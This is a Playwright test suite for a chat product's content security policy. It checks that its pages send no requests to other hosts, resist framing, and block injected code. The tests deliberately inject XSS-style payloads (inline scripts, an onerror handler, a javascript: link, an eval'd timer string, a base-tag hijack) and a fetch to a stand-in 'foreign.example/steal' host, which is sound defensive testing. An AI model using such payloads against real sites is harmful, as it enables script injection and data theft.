// The content security policy in a real browser: every screen complies with it, and violations are blocked.
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { BrowserContext, Locator, Page } from '@playwright/test';
import { Agent } from './agent';
import { expect, test } from './fixtures';
import { deep, deepIf } from './deep';

declare global {
  interface Window {
    violations: string[];
    ran?: string;
    refused?: number;
  }
}

async function listen(context: BrowserContext): Promise<void> {
  await context.addInitScript(() => {
    window.violations = [];
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) =>
      window.violations.push(`${violatedDirective} ${blockedURI}`),
    );
  });
}

test('no page of the product violates its content security policy or sends requests to another host [BEY-100]', async ({
  agent,
  context,
  newCustomer,
  server,
}) => {
  const strangers = new Set<string>();
  context.on('request', (request) => {
    const url = new URL(request.url());
    if (url.protocol !== 'blob:' && url.origin !== server.origin) strangers.add(request.url());
  });
  await listen(context);
  const expectClean = async (where: string): Promise<void> =>
    expect(await agent.page.evaluate(() => window.violations), where).toEqual([]);
  for (const path of ['/login', '/tab-disabled', '/lost-connection', '/unsupported-browser', '/']) {
    await agent.open(path);
    await expect(agent.page.getByRole('heading', { level: 1 })).toBeVisible();
    await expectClean(path);
  }
  await agent.signIn();
  await agent.connectChat();
  const customer = await newCustomer('Helena Duarte');
  await customer.write('Bom dia');
  await agent.send('Bom dia!');
  await expect(customer.reads('Bom dia!')).toBeVisible();
  await expectClean('the conversation');
  await agent.page.getByRole('button', { name: 'Emoji' }).click();
  const seenAndClosed = async (surface: Locator): Promise<void> => {
    await expect(surface).toBeVisible();
    await agent.escape(surface);
  };
  await seenAndClosed(agent.page.getByRole('searchbox', { name: /emoji/i }));
  await agent.page.getByRole('button', { name: 'Notificações' }).click();
  await seenAndClosed(agent.page.getByRole('dialog', { name: 'Notificações' }));
  await agent.chooseInOwnMenu('Preferências');
  await seenAndClosed(agent.dialog('Preferências'));
  await agent.card('Helena Duarte').click({ button: 'right' });
  await seenAndClosed(agent.page.getByRole('menu'));
  await agent.conversation.getByRole('button', { name: 'Finalizar', exact: true }).click();
  await seenAndClosed(agent.dialog('Finalizar atendimento'));
  await expectClean('menus and dialogs');
  await agent.page.goto('/outside');
  await expect(agent.page.getByRole('textbox', { name: 'Nome' })).toBeVisible();
  await expectClean('the outside page');
  expect([...strangers]).toEqual([]);
});

/** A browser whose console errors are expected: these tests violate the policy. */
async function intruder(context: BrowserContext, origin: string, path: string): Promise<Page> {
  await listen(context);
  const page = await context.newPage();
  await page.goto(origin + path);
  return page;
}

const pages = [
  { name: 'the workspace', path: '/new-agent/' },
  { name: 'the outside page', path: '/outside' },
] as const;

for (const { name, path } of pages) {
  test(
    `${name} runs no inline script, no inline handler, no evaluated text and no script of another origin [BEY-100]`,
    deepIf(path === '/outside'),
    async ({ browser, server }) => {
      const context = await browser.newContext();
      const page = await intruder(context, server.origin, path);
      await page.evaluate(() => {
        // Trusted types refuse some of these texts already where the script assigns them.
        const attempt = (work: () => void): void => {
          try {
            work();
          } catch {
            window.refused = (window.refused ?? 0) + 1;
          }
        };
        attempt(() => {
          const script = document.createElement('script');
          document.body.append(script);
          script.textContent = "window.ran = 'script'";
        });
        attempt(() => {
          const picture = document.createElement('div');
          document.body.append(picture);
          picture.innerHTML =
            '<img src="/nothing.png" onerror="window.ran = \'handler\'"><a href="javascript:window.ran=\'link\'">x</a>';
          picture.querySelector('a')?.click();
        });
        const style = document.createElement('style');
        style.textContent = 'body { display: none }';
        document.head.append(style);
        // A string passed to a timer would be evaluated.
        attempt(() => setTimeout("window.ran = 'timer'" as unknown as () => void, 0));
        attempt(() => {
          const foreign = document.createElement('script');
          foreign.src = 'https://foreign.example/x.js';
          document.body.append(foreign);
        });
        const base = document.createElement('base');
        base.href = 'https://foreign.example/';
        document.head.append(base);
        void fetch('https://foreign.example/steal').catch(() => undefined);
      });
      const byPlace = {
        '/new-agent/': ['require-trusted-types-for trusted-types-sink'],
        '/outside': [
          'script-src-elem inline',
          'script-src-attr inline',
          'script-src eval',
          'script-src-elem https://foreign.example/x.js',
        ],
      };
      const broken = [
        ...byPlace[path],
        'style-src-elem inline',
        'base-uri https://foreign.example',
        'connect-src https://foreign.example/steal',
      ];
      const seen = (): Promise<string[]> => page.evaluate(() => window.violations);
      for (const violation of broken)
        await expect.poll(seen, violation).toContainEqual(expect.stringContaining(violation));
      expect(await page.evaluate(() => window.ran)).toBeUndefined();
      // Text of a script, markup, text of a timer, address of a script.
      expect(await page.evaluate(() => window.refused)).toBe(path === '/outside' ? undefined : 4);
      expect(await page.evaluate(() => document.baseURI)).toContain(server.origin);
      expect(await page.evaluate(() => getComputedStyle(document.body).display)).not.toBe('none');
      await context.close();
    },
  );

  test(`${name} cannot be framed [BEY-100]`, deepIf(path === '/outside'), async ({ browser, server }) => {
    const foreign = createServer((_request, response) =>
      response
        .setHeader('content-type', 'text/html')
        .end(`<!doctype html><title>Moldura</title><iframe src="${server.origin}${path}"></iframe>`),
    );
    await new Promise<void>((resolve) => foreign.listen(0, '127.0.0.1', resolve));
    const context = await browser.newContext();
    const page = await context.newPage();
    const refused = page.waitForEvent('console', (message) => /frame-ancestors|X-Frame-Options/i.test(message.text()));
    await page.goto(`http://127.0.0.1:${(foreign.address() as AddressInfo).port}/`);
    await refused;
    // The violation is reported before the frame shows its error page.
    await expect
      .poll(() =>
        page
          .frames()
          .find((candidate) => candidate.parentFrame() !== null)
          ?.url(),
      )
      .toMatch(/^chrome-error:/);
    await context.close();
    await new Promise((resolve) => foreign.close(resolve));
  });
}

test(
  'an engine without wasm-unsafe-eval compiles the module, and runs no inline script [BEY-100]',
  deep,
  async ({ browser, server }) => {
    const context = await browser.newContext({
      userAgent:
        'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/90.0.4430.85 Safari/537.36',
    });
    const agent = new Agent(await intruder(context, server.origin, '/new-agent/'));
    await agent.signIn();
    await agent.page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = "window.ran = 'script'";
      document.body.append(script);
    });
    await expect.poll(() => agent.page.evaluate(() => window.violations)).toEqual(['script-src-elem inline']);
    expect(await agent.page.evaluate(() => window.ran)).toBeUndefined();
    await context.close();
  },
);
